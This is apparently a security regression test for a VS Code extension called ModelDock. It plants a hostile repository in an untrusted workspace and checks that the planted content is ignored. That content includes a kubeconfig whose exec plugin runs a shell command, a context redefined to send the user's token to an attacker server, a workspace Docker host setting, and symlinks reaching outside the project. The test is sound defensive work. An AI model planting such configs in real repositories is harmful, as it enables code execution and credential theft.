import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { activated, removeFromWorkspace, waitFor, workspaceRoot } from '../suite/helpers';
import { quietFor } from '../../shared/poll';
import { readSetting } from '../../../src/platform/settings';

// A hostile repository, opened the way a user opens a stranger's code: in an untrusted workspace
// (restricted mode). The suite plants what the reproductions used: a .vscode/settings.json
// choosing a kubeconfig inside the repository and a Docker host, a kubeconfig whose exec plugin
// runs a command and which redefines the user's own context to send the user's token to the
// attacker, symlinks that lead out of the project, and a template override that reads a file
// outside it. Nothing may run, no connection may reach the attacker, no file may leave.

function listener(): Promise<{ port: number; connections: () => number; close: () => void }> {
  return new Promise((resolve) => {
    let count = 0;
    const sockets = new Set<net.Socket>();
    const server = net.createServer((s) => {
      count++;
      sockets.add(s);
      s.on('error', () => undefined);
      s.destroy();
    });
    server.listen(0, '127.0.0.1', () =>
      resolve({
        port: (server.address() as net.AddressInfo).port,
        connections: () => count,
        close: () => {
          for (const s of sockets) s.destroy();
          server.close();
        },
      }),
    );
  });
}

describe('untrusted workspace: a hostile repository cannot run code, reach out or write outside', () => {
  const outside = process.env.MODELDOCK_TEST_OUTSIDE ?? '';
  const userKubeconfig = process.env.KUBECONFIG ?? '';
  const root = () => workspaceRoot().fsPath;
  const marker = () => path.join(outside, 'exec-plugin-ran');
  let attacker: Awaited<ReturnType<typeof listener>>;
  let legit: Awaited<ReturnType<typeof listener>>;

  before(async () => {
    assert.ok(outside && userKubeconfig, 'run through scripts/run-vscode-tests.mjs (untrusted suite)');
    attacker = await listener();
    legit = await listener();
    // The user's own kubeconfig, outside the workspace: context "prod" on the legit server, with a token.
    fs.writeFileSync(
      userKubeconfig,
      `apiVersion: v1\nkind: Config\nclusters:\n- name: prod\n  cluster: {server: "https://127.0.0.1:${legit.port}", insecure-skip-tls-verify: true}\nusers:\n- name: me\n  user: {token: user-secret-token}\ncontexts:\n- name: prod\n  context: {cluster: prod, user: me}\ncurrent-context: prod\n`,
    );
    // The repository's kubeconfig: an exec plugin, and "prod" redefined to point at the attacker.
    fs.mkdirSync(path.join(root(), '.kube'), { recursive: true });
    fs.writeFileSync(
      path.join(root(), '.kube', 'config'),
      `apiVersion: v1\nkind: Config\nclusters:\n- name: prod\n  cluster: {server: "https://127.0.0.1:${attacker.port}", insecure-skip-tls-verify: true}\nusers:\n- name: evil\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: /bin/sh\n      args: ["-c", "touch ${marker()}"]\ncontexts:\n- name: prod\n  context: {cluster: prod, user: me}\n- name: evil\n  context: {cluster: prod, user: evil}\ncurrent-context: evil\n`,
    );
    fs.mkdirSync(path.join(root(), '.vscode'), { recursive: true });
    fs.writeFileSync(
      path.join(root(), '.vscode', 'settings.json'),
      JSON.stringify({
        'modeldock.kube.kubeconfig': [path.join(root(), '.kube', 'config'), userKubeconfig],
        'modeldock.kube.writeCurrentContext': true,
        'modeldock.docker.host': `tcp://127.0.0.1:${attacker.port}`,
      }),
    );
    // Template override that would read a file outside the project.
    fs.writeFileSync(path.join(outside, 'secret.txt'), 'LEAKED-SECRET\n');
    fs.mkdirSync(path.join(root(), '.modeldock', 'templates', 'common'), { recursive: true });
    fs.symlinkSync(path.join(outside, 'secret.txt'), path.join(root(), '.modeldock', 'templates', 'common', 'dockerignore.tmpl'));
    await activated();
  });

  after(async () => {
    attacker?.close();
    legit?.close();
    await removeFromWorkspace('.kube', '.vscode', '.modeldock', 'k8s', 'Dockerfile', '.dockerignore');
  });

  it('opens untrusted; the planted kubeconfig and Docker host settings are not used', () => {
    assert.equal(vscode.workspace.isTrusted, false, 'the folder must open in restricted mode');
    assert.ok(fs.existsSync(path.join(root(), '.vscode', 'settings.json')), 'the planted settings file is there');
    const cfg = vscode.workspace.getConfiguration('modeldock');
    // Machine-scoped: VS Code itself drops workspace values; ModelDock's reader would too.
    for (const key of ['kube.kubeconfig', 'docker.host'] as const) {
      const i = cfg.inspect(key);
      assert.equal(i?.workspaceValue, undefined, `${key} taken from the workspace by VS Code`);
      assert.equal(i?.workspaceFolderValue, undefined, `${key} taken from the folder by VS Code`);
    }
    assert.deepEqual(readSetting(cfg, 'kube.kubeconfig'), []);
    assert.equal(readSetting(cfg, 'docker.host'), '');
  });

  it('the Clusters view waits for the user: no exec plugin runs, no connection anywhere', async () => {
    const { api } = await activated();
    await vscode.commands.executeCommand('modeldock.views.cluster.focus');
    await waitFor('the Clusters view to settle on Connect', () => (api.cluster.model.connection === 'needs-consent' ? true : undefined), 30_000);
    await quietFor(1500); // any background connection attempt would have happened by now
    assert.equal(fs.existsSync(marker()), false, 'the exec plugin ran');
    assert.equal(attacker.connections(), 0, 'a connection reached the attacker');
    assert.equal(legit.connections(), 0, 'connected without being asked');
  });

  it('Connect uses only the user\'s own kubeconfig: the user\'s server, never the repository\'s', async () => {
    const { api } = await activated();
    await vscode.commands.executeCommand('modeldock.kube.connect');
    await waitFor('a connection to the user\'s own cluster', () => (legit.connections() > 0 ? true : undefined), 60_000);
    await waitFor('the connection attempt to settle', () => (['connected', 'failed'].includes(api.cluster.model.connection) ? true : undefined), 60_000);
    assert.equal(attacker.connections(), 0, 'the user\'s token could have gone to the attacker');
    assert.equal(fs.existsSync(marker()), false, 'the exec plugin ran');
  });

  it('Build, Run and Apply are refused; the workspace Docker host is never contacted', async () => {
    fs.writeFileSync(path.join(root(), 'Dockerfile'), 'FROM scratch\n');
    try {
      assert.equal(await vscode.commands.executeCommand('modeldock.docker.build', { dockerfile: vscode.Uri.file(path.join(root(), 'Dockerfile')), tag: 'evil:1' }), undefined);
      assert.equal(await vscode.commands.executeCommand('modeldock.docker.run', { image: 'evil:1' }), undefined);
      await quietFor(500);
      assert.equal(attacker.connections(), 0, 'the workspace\'s Docker host was contacted');
    } finally {
      await removeFromWorkspace('Dockerfile');
    }
  });

  it('template overrides are not read in an untrusted workspace, and never from outside the project', async () => {
    const res = await vscode.commands.executeCommand<{ outcome: { created: string[] } } | undefined>('modeldock.containerize', {
      interactive: false,
      choices: { target: 'cpu', outputs: { dockerfile: true, dockerignore: true, compose: false, kubernetes: false, kserve: false } },
      overwrite: 'overwrite',
      open: false,
    });
    assert.ok(res, 'generating files is allowed in an untrusted workspace');
    const ignore = fs.readFileSync(path.join(root(), '.dockerignore'), 'utf8');
    assert.doesNotMatch(ignore, /LEAKED-SECRET/);
    await removeFromWorkspace('Dockerfile', '.dockerignore');
  });

  it('a symlinked k8s/ folder and a dangling Dockerfile link refuse the whole plan: nothing is written anywhere', async () => {
    fs.mkdirSync(path.join(outside, 'victim-dir'), { recursive: true });
    fs.symlinkSync(path.join(outside, 'victim-dir'), path.join(root(), 'k8s'));
    fs.symlinkSync(path.join(outside, 'created-by-attack'), path.join(root(), 'Dockerfile'));
    try {
      const res = await vscode.commands.executeCommand('modeldock.containerize', {
        interactive: false,
        choices: { target: 'cpu', outputs: { dockerfile: true, dockerignore: true, compose: true, kubernetes: true, kserve: false } },
        overwrite: 'overwrite',
        open: false,
      });
      assert.equal(res, undefined, 'the plan was written');
      assert.deepEqual(fs.readdirSync(path.join(outside, 'victim-dir')), [], 'a file was written through the k8s link');
      assert.equal(fs.existsSync(path.join(outside, 'created-by-attack')), false, 'the dangling link\'s target was created');
      assert.equal(fs.existsSync(path.join(root(), 'compose.yaml')), false, 'a partial plan was written');
    } finally {
      fs.unlinkSync(path.join(root(), 'k8s'));
      fs.unlinkSync(path.join(root(), 'Dockerfile'));
    }
  });
});
